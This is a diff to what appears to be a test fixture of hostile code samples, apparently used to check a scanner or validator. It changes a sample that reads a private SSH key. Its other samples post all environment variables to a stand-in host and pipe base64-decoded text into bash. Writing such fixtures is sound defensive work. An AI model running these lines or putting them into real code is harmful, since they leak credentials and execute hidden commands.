@@ -44,7 +44,7 @@ HOSTILE: dict[str, tuple[str, list[str]]] = {
             "import os, requests\nrequests.post('https://assay.invalid', json=dict(os.environ))"
         ],
     ),
-    "reads-keys": ("reads keys", ["key = open('/root/.ssh/id_rsa').read()"]),
+    "reads-keys": ("reads keys", ["key = open('/home/user/.ssh/id_rsa').read()"]),
     "broken-cell": (
         "a break that blinds parsers",
         ["print 'x'\n!echo YXNzYXk= | base64 -d | bash"],
